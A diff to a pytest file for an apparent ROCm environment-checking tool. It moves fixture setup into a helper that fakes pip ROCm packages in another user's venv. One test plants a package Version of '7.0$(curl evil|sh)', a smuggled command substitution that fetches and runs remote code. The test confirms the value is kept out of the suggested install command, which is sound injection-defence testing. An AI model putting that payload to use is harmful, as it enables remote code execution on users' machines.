@@ -33,6 +33,18 @@ def _machine(tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch) -> tu
     return root, environ, library, tree
 
 
+def _pip_rocm_elsewhere(root: Path, build: Path, versions: dict[str, str]) -> None:
+    """TheRock's pip ROCm in another Python environment (alice's venv): its HIP runtime and the distributions'
+    METADATA, each stating the version given (test fixture)."""
+    site = root / "home" / "alice" / "venv" / "lib" / "python3.12" / "site-packages"
+    (site / "_rocm_sdk_core" / "lib").mkdir(parents=True)
+    shutil.copy(build / "hip" / "libamdhip64.so.7", site / "_rocm_sdk_core" / "lib")
+    for name, version in versions.items():
+        info = site / f"{name.replace('-', '_')}-{ROCM}.dist-info"
+        info.mkdir()
+        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nA description.\n")
+
+
 def _not_found(report: Report) -> object:
     return next(f for f in report.findings if f.id == "rocm-not-found")
 
@@ -57,13 +69,7 @@ def test_pip_rocm_in_another_environment_is_installed_into_this_one(
 ) -> None:
     root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
     shutil.rmtree(tree)
-    site = root / "home" / "alice" / "venv" / "lib" / "python3.12" / "site-packages"
-    (site / "_rocm_sdk_core" / "lib").mkdir(parents=True)
-    shutil.copy(build / "hip" / "libamdhip64.so.7", site / "_rocm_sdk_core" / "lib")
-    for name in ("rocm-sdk-core", "rocm-sdk-libraries-gfx94X-dcgpu"):
-        info = site / f"{name.replace('-', '_')}-{ROCM}.dist-info"
-        info.mkdir()
-        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {ROCM}\n\nA description.\n")
+    _pip_rocm_elsewhere(root, build, {"rocm-sdk-core": ROCM, "rocm-sdk-libraries-gfx94X-dcgpu": ROCM})
     finding = _not_found(doctor(environ, root, library))
     assert "from pip is installed in another Python environment (/home/alice/venv/" in finding.summary  # type: ignore[attr-defined]
     # The command as the shell reads it back: an argument list, quoted (shlex.join).
@@ -250,13 +256,7 @@ def test_metadata_another_environment_states_never_enters_a_command(
     """A planted METADATA whose Version is a command substitution: that distribution is left out of the command."""
     root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
     shutil.rmtree(tree)
-    site = root / "home" / "alice" / "venv" / "lib" / "python3.12" / "site-packages"
-    (site / "_rocm_sdk_core" / "lib").mkdir(parents=True)
-    shutil.copy(build / "hip" / "libamdhip64.so.7", site / "_rocm_sdk_core" / "lib")
-    for name, version in (("rocm-sdk-core", "7.0$(curl evil|sh)"), ("rocm-sdk-libraries-gfx94X-dcgpu", ROCM)):
-        info = site / f"{name.replace('-', '_')}-{ROCM}.dist-info"
-        info.mkdir()
-        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n")
+    _pip_rocm_elsewhere(root, build, {"rocm-sdk-core": "7.0$(curl evil|sh)", "rocm-sdk-libraries-gfx94X-dcgpu": ROCM})
     fix = _not_found(doctor(environ, root, library)).fix  # type: ignore[attr-defined]
     assert "curl" not in fix and "$(" not in fix, fix
     words = shlex.split(fix.removeprefix("install the same ROCm into this environment: "))
